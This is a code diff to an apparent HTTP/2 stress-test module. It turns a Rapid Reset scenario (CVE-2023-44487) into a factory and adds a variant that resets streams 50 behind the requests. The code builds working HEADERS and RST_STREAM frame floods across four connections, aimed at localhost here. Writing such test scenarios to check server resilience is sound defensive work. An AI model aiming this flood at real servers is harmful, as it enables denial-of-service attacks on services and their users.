@@ -10,10 +10,10 @@ const preface = Buffer.concat([
   frame(frameType.settings, 0, 0, Buffer.alloc(0)),
 ]);
 
-/** Streams of HTTP/2 that are asked for and reset in the same breath (CVE-2023-44487). */
-export const rapidReset = {
-  name: 'rapid-reset',
-  title: '4 connections ask for 5,000 streams each over HTTP/2, and reset each at once',
+/** Streams of HTTP/2 that are asked for and reset in the same breath (CVE-2023-44487): each at once, or some streams later. */
+const resetting = (name, late, when) => ({
+  name,
+  title: `4 connections ask for 5,000 streams each over HTTP/2, and reset each ${when}`,
 
   async options() {
     const { private: key, cert } = await generate([{ name: 'commonName', value: 'localhost' }], {
@@ -36,8 +36,10 @@ export const rapidReset = {
         for (; sent < 5_000 && !socket.destroyed; sent += 100) {
           const hundred = times(100, (n) => {
             const id = 2 * (sent + n) + 1;
-            const reset = frame(frameType.reset, 0, id, Buffer.from([0, 0, 0, 8]));
-            return Buffer.concat([frame(frameType.headers, endStream | endHeaders, id, block), reset]);
+            const headers = frame(frameType.headers, endStream | endHeaders, id, block);
+            const reset = 2 * (sent + n - late) + 1;
+            if (reset < 1) return headers;
+            return Buffer.concat([headers, frame(frameType.reset, 0, reset, Buffer.from([0, 0, 0, 8]))]);
           });
           if (!socket.write(Buffer.concat(hundred))) await drained(socket);
         }
@@ -47,7 +49,10 @@ export const rapidReset = {
     for (const socket of sockets) socket.destroy();
     return { note: `${streams.reduce((sum, each) => sum + each)} streams sent` };
   },
-};
+});
+
+export const rapidReset = resetting('rapid-reset', 0, 'at once');
+export const lateReset = resetting('late-reset', 50, '50 streams later');
 
 /** Resolves when there is room again, or when the server has had enough. */
 function drained(socket) {
